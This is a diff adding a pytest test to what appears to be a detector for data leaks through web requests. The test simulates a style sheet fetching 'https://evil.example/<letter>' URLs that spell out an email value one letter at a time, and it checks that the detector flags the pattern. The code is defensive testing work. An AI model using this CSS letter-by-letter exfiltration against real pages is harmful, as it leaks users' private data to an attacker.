@@ -66,6 +66,14 @@ def test_keys_that_are_sent_one_by_one_spell_a_value() -> None:
     assert found(requests=(row,), messages=stars) == []
 
 
+def test_pictures_that_a_style_sheet_asks_for_each_letter_once() -> None:
+    first = dict.fromkeys(EMAIL)
+    asked = tuple(request(n, f"https://evil.example/{quote(letter, safe='')}") for n, letter in enumerate(first, 1))
+    (one,) = found(requests=asked)
+    assert (one.facts["ways"], one.facts["places"], one.subject.name) == (["each key once"], ["url"], "evil.example")
+    assert found(requests=asked[:6]) == []
+
+
 @pytest.mark.parametrize(
     "bodies",
     [
